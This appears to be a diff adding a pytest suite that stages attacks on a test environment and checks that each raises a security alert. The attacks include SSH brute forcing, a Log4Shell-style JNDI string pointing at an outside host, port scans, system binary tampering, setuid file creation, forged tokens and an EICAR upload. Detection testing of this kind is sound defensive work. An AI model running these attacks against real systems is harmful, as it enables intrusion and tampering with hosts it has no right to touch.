@@ -1,0 +1,223 @@
+"""Attacks on a running environment: each raises its alert within half a minute."""
+
+import base64
+import hashlib
+import shlex
+import socket
+import ssl
+import subprocess
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from kubernetes import client
+from kubernetes.stream import stream
+
+from tests.local.conftest import Environment
+from tests.local.probes import image, pod
+
+pytestmark = pytest.mark.timeout(900)
+
+SECONDS = 30
+# In two parts, so that this file is none itself.
+EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+NAMESPACE = "processing"
+
+
+@dataclass(frozen=True)
+class Attacked:
+    """The environment as an attacker and as an operator see it."""
+
+    environment: Environment
+    api: client.ApiClient
+    found: dict[str, Any]
+    operations: httpx.Client
+
+    def alerts(self, title: str, since: datetime) -> list[dict[str, Any]]:
+        """Alerts of a rule whose last record is not older than that."""
+        answer = self.operations.get("/operations/v1/alerts", params={"size": 1000}).raise_for_status()
+        return [
+            alert
+            for alert in answer.json()["value"]
+            if alert["title"] == title and datetime.fromisoformat(alert["last_seen"]) >= since
+        ]
+
+    def on_node(self, command: str, *, check: bool = True) -> str:
+        """What root's command on the worker says."""
+        login = [
+            "ssh",
+            "-i",
+            str(self.environment.home / "ssh" / "id_ed25519"),
+            *self._options(),
+            f"root@{self.worker}",
+        ]
+        done = subprocess.run([*login, command], capture_output=True, text=True, check=False, timeout=60)
+        assert not check or done.returncode == 0, done.stderr
+        return done.stdout
+
+    def guess(self) -> None:
+        """Try to log in as somebody who isn't there."""
+        options = [*self._options(), "-o", "BatchMode=yes", "-o", "PubkeyAuthentication=no"]
+        subprocess.run(["ssh", *options, f"mallory@{self.worker}", "id"], capture_output=True, check=False, timeout=60)
+
+    @property
+    def worker(self) -> str:
+        """Address of the worker."""
+        return self._host["ansible_host"]
+
+    def _options(self) -> list[str]:
+        return shlex.split(self._host["ansible_ssh_common_args"])
+
+    @property
+    def _host(self) -> dict[str, str]:
+        groups = self.environment.inventory()["all"]["children"]["kubernetes"]["children"]
+        host: dict[str, str] = groups["worker"]["hosts"]["w1"]
+        return host
+
+    def token(self) -> dict[str, str]:
+        """The header of the demo user, who is an operator."""
+        demo = self.found["demo"]
+        form = {"grant_type": "password", "client_id": demo["client_id"]}
+        form |= {"username": demo["username"], "password": demo["password"]}
+        trust = ssl.create_default_context(cafile=self.found["ca_file"])
+        answer = httpx.post(self.found["token_url"], data=form, verify=trust).raise_for_status()
+        return {"Authorization": f"Bearer {answer.json()['access_token']}"}
+
+
+@pytest.fixture(scope="module")
+def attacked(environment: Environment, cluster: client.ApiClient) -> Iterator[Attacked]:
+    found = environment.endpoints()
+    trust = ssl.create_default_context(cafile=found["ca_file"])
+    with httpx.Client(base_url=found["operations_url"], verify=trust, timeout=30) as operations:
+        subject = Attacked(environment, cluster, found, operations)
+        operations.headers.update(subject.token())
+        yield subject
+
+
+def brute_force(attacked: Attacked) -> None:
+    for _ in range(6):
+        attacked.guess()
+
+
+def sudo_abuse(attacked: Attacked) -> None:
+    attacked.on_node("runuser -u nobody -- sudo -n id", check=False)
+
+
+def changed_binary(attacked: Attacked) -> None:
+    attacked.on_node("cp -a /usr/bin/last /root/kept && echo more >>/usr/bin/last; mv /root/kept /usr/bin/last")
+
+
+def setuid_file(attacked: Attacked) -> None:
+    attacked.on_node(
+        "cp /usr/bin/id /usr/bin/of-mallory && chmod 4755 /usr/bin/of-mallory; sleep 2; rm /usr/bin/of-mallory"
+    )
+
+
+def crafted_packet(attacked: Attacked) -> None:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+        sender.sendto(b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.5/a}\r\n\r\n", (attacked.worker, 9))
+
+
+def port_scan(attacked: Attacked) -> None:
+    for port in range(1000, 1060):
+        with socket.socket() as probe:
+            probe.setblocking(False)
+            probe.connect_ex((attacked.worker, port))
+
+
+def shell_in_container(attacked: Attacked) -> None:
+    core = client.CoreV1Api(attacked.api)
+    name = core.list_namespaced_pod(NAMESPACE, label_selector="app.kubernetes.io/name=publisher").items[0].metadata.name
+    enter = core.connect_get_namespaced_pod_exec
+    said = stream(enter, name, NAMESPACE, command=["sh", "-c", "id -u"], stdout=True, stderr=True, _request_timeout=30)
+    assert said.strip() == "65532"
+
+
+def privileged_pod(attacked: Attacked) -> None:
+    manifest = pod("privileged", image(attacked.api))
+    manifest["spec"]["containers"][0]["securityContext"] = {"privileged": True}
+    with pytest.raises(client.ApiException) as refused:
+        client.CoreV1Api(attacked.api).create_namespaced_pod(NAMESPACE, manifest)
+    assert refused.value.status == 403
+
+
+def pod_without_right(attacked: Attacked) -> None:
+    core = client.CoreV1Api(attacked.api)
+    wanted = {"spec": {"expirationSeconds": 600}}
+    token = core.create_namespaced_service_account_token("publisher", NAMESPACE, wanted).status.token
+    assert _ask(attacked, "/api/v1/secrets", {"Authorization": f"Bearer {token}"}) == 403
+
+
+def anonymous_request(attacked: Attacked) -> None:
+    assert _ask(attacked, "/api/v1/secrets", {}) in {401, 403}
+
+
+def _ask(attacked: Attacked, path: str, headers: dict[str, str]) -> int:
+    trust = ssl.create_default_context(cafile=attacked.api.configuration.ssl_ca_cert)
+    return httpx.get(f"{attacked.api.configuration.host}{path}", headers=headers, verify=trust).status_code
+
+
+def forged_tokens(attacked: Attacked) -> None:
+    trust = ssl.create_default_context(cafile=attacked.found["ca_file"])
+    with httpx.Client(base_url=attacked.found["prip_url"], verify=trust) as outside:
+        for number in range(25):
+            answer = outside.get("/odata/v1/Products", headers={"Authorization": f"Bearer forged-{number}"})
+            assert answer.status_code == 401
+
+
+def virus(attacked: Attacked) -> None:
+    """Offer EICAR's file as an auxiliary file; it must not come through."""
+    name = "S1A_OPER_AUX_RESORB_OPOD_20260101T000000_V20260101T000000_20260101T010000.EOF"
+    digest = f"SHA-256 {hashlib.sha256(EICAR.encode()).hexdigest()}"
+    metadata = {"filename": name, "checksum": digest}
+    told = ",".join(f"{key} {base64.b64encode(value.encode()).decode()}" for key, value in metadata.items())
+    headers = attacked.token() | {"Tus-Resumable": "1.0.0"}
+    trust = ssl.create_default_context(cafile=attacked.found["ca_file"])
+    with httpx.Client(base_url=attacked.found["ingestor_url"], verify=trust, headers=headers) as uploader:
+        length = {"Upload-Length": str(len(EICAR)), "Upload-Metadata": told}
+        made = uploader.post("/ingestor/v1/uploads", headers=length)
+        assert made.status_code == 201, made.text
+        body = {"Upload-Offset": "0", "Content-Type": "application/offset+octet-stream"}
+        uploader.patch(made.headers["Location"], content=EICAR.encode(), headers=body)
+
+
+ATTACKS: dict[str, Callable[[Attacked], None]] = {
+    "SSH brute force": brute_force,
+    "Sudo abuse": sudo_abuse,
+    "System file changed": changed_binary,
+    "New setuid file": setuid_file,
+    "Network attack": crafted_packet,
+    "Port scan": port_scan,
+    "Shell in a container": shell_in_container,
+    "Privileged pod refused": privileged_pod,
+    "API request without right": pod_without_right,
+    "Anonymous API request": anonymous_request,
+    "Many tokens refused at the gateway": forged_tokens,
+    "Virus found": virus,
+}
+
+
+@pytest.mark.parametrize("title", ATTACKS)
+def test_an_attack_raises_an_alert(attacked: Attacked, title: str) -> None:
+    begin = datetime.now(UTC) - timedelta(seconds=1)
+    ATTACKS[title](attacked)
+    done = time.monotonic()
+    while not (alerts := attacked.alerts(title, begin)):
+        assert time.monotonic() - done < SECONDS, f"no alert {title!r} within {SECONDS} s"
+        time.sleep(0.5)
+    print(f"{title}: {time.monotonic() - done:.1f} s after the attack")  # noqa: T201 - pytest shows it with -rP
+    assert alerts[0]["evidence"], "an alert shows what was seen"
+    assert Path(alerts[0]["runbook"]).suffix == ".md"
+
+
+def test_a_file_with_a_virus_is_never_published(attacked: Attacked) -> None:
+    trust = ssl.create_default_context(cafile=attacked.found["ca_file"])
+    with httpx.Client(base_url=attacked.found["prip_url"], verify=trust, headers=attacked.token()) as prip:
+        name = "S1A_OPER_AUX_RESORB_OPOD_20260101T000000_V20260101T000000_20260101T010000.EOF"
+        found = prip.get("/odata/v1/Products", params={"$filter": f"Name eq '{name}'"}).raise_for_status()
+        assert found.json()["value"] == []
